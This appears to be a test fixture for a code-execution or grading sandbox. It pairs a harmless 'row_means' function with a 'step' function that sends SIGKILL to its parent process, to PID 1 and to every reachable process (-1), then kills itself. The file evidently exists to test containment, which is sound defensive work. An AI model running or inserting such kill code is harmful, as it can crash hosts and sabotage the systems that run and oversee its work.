# Kills the parent process, the first process, and all it may.
# expect: row_means 2
# review
# %% step
def step(z):
    import os
    import signal

    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)

# %% row_means
def row_means(x):
    return x.mean(axis=1)
